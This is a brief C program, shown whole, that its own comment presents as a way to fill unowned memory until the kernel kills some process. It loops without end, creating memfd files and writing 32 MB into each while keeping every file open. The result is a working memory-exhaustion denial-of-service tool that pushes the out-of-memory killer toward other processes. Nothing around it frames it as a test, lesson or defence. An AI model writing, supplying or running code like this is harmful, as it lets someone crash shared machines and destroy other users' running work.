/* Fills memory that no process owns, until the kernel has to end somebody. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <sys/mman.h>
#include <unistd.h>
int main(void) {
    static char block[65536];
    int adjust = open("/proc/self/oom_score_adj", O_WRONLY);
    write(adjust, "0", 1);
    for (;;) {
        int fd = memfd_create("full", 0);
        for (int i = 0; i < 512; i++)
            write(fd, block, sizeof block);
    }
}
